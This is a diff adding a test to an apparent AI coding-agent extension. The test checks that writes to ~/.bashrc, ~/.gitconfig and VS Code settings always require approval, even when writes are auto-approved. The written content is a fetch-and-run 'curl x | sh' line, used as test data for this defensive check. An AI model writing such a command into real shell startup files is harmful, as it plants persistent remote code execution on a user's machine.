@@ -41,6 +41,31 @@ describe('trust boundary: readers and credential folders', () => {
     }
   });
 
+  it('I4: with the workspace at the home folder, writes to ~/.bashrc, ~/.gitconfig and VS Code\'s user settings always ask, even auto-approved; reads do not', async () => {
+    const home = tempDir('snowpea-home-');
+    writeTree(home, { '.bashrc': 'export A=1\n', '.gitconfig': '[user]\n', '.config/Code/User/settings.json': '{}\n', 'notes.txt': 'hi\n' });
+    const old = process.env.HOME;
+    process.env.HOME = home;
+    try {
+      const { ApprovalMemory } = await import('../../../extension/core/tools/policy/memory');
+      const ctx = makeCtx(home, { decide: () => 'deny', settings: { 'approvals.autoApprove': ['write'] } });
+      ctx.approvals = new ApprovalMemory(true);
+      for (const p of ['.bashrc', '.gitconfig', '.config/Code/User/settings.json']) {
+        const r = await call(ctx, 'write_file', { path: p, content: 'curl x | sh\n' });
+        assert.equal(r.error?.code, 'denied', `${p}: ${r.content}`);
+      }
+      assert.equal(ctx.asked.length, 3);
+      assert.ok(ctx.asked.every((a) => a.alwaysAsk && /in your home folder/.test(a.reason ?? '')), JSON.stringify(ctx.asked.map((a) => a.reason)));
+      assert.equal(fs.readFileSync(path.join(home, '.bashrc'), 'utf8'), 'export A=1\n');
+      assert.equal((await call(ctx, 'read_file', { path: '.bashrc' })).ok, true, 'reading it is not asked');
+      assert.equal((await call(ctx, 'write_file', { path: 'notes.txt', content: 'x\n' })).ok, true, 'other files follow the usual rules (auto-approved here)');
+      assert.equal(ctx.asked.length, 3);
+    } finally {
+      if (old === undefined) delete process.env.HOME;
+      else process.env.HOME = old;
+    }
+  });
+
   it('I4: a workspace at the home folder or / gets a warning; a project folder does not', async () => {
     const { broadRootWarning } = await import('../../../extension/core/tools/policy/broad-root');
     const home = tempDir('snowpea-home2-');
